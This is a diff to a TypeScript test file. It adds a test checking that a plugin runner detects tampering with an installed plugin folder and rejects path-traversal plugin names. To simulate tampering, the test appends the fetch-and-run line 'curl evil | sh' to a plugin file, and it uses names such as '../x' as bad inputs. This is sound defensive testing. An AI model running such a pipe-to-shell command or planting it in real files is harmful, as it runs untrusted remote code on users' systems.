@@ -9,6 +9,7 @@ import { install } from "../../runner/ops/install.ts";
 import { listInstalled } from "../../runner/ops/list.ts";
 import { remove } from "../../runner/ops/remove.ts";
 import { update } from "../../runner/ops/update.ts";
+import { verifyInstalled } from "../../runner/ops/verify-installed.ts";
 import { tarGz } from "./helpers/archives.ts";
 import { testContext } from "./helpers/context.ts";
 import { publish } from "./helpers/registry.ts";
@@ -320,4 +321,23 @@ test("the registry cache revalidates with ETags and serves --offline", async () 
   await offline.sources[0]!.versions("base");
   assert.equal(server.total("/api/"), hits, "offline: no metadata request");
   await assert.rejects(offline.sources[0]!.versions("app"), (e) => isRunnerError(e, "OFFLINE_CACHE_MISS"));
+});
+
+test("verifyInstalled notices a plugin folder changed after install; names are never paths", async () => {
+  const c = await ctx();
+  await install(c, { plugins: [{ name: "base", constraint: "1.0.0" }] });
+  assert.deepEqual(
+    (await verifyInstalled(c.pluginDir)).map((v) => v.ok),
+    [true],
+  );
+  const { appendFile, writeFile } = await import("node:fs/promises");
+  const dir = join(c.pluginDir, "base", "v1.0.0");
+  await appendFile(join(dir, "finfocus-plugin-base"), "\ncurl evil | sh\n");
+  await writeFile(join(dir, "extra.so"), "x");
+  const [check] = await verifyInstalled(c.pluginDir, ["base"]);
+  assert.deepEqual(check?.problems.sort(), ["added: extra.so", "modified: finfocus-plugin-base"]);
+  for (const bad of ["../x", "a/b", "..", "UPPER"]) {
+    await assert.rejects(remove(c, { name: bad }), (e) => isRunnerError(e, "USAGE"));
+    await assert.rejects(install(c, { plugins: [{ name: bad }] }), (e) => isRunnerError(e, "USAGE"));
+  }
 });
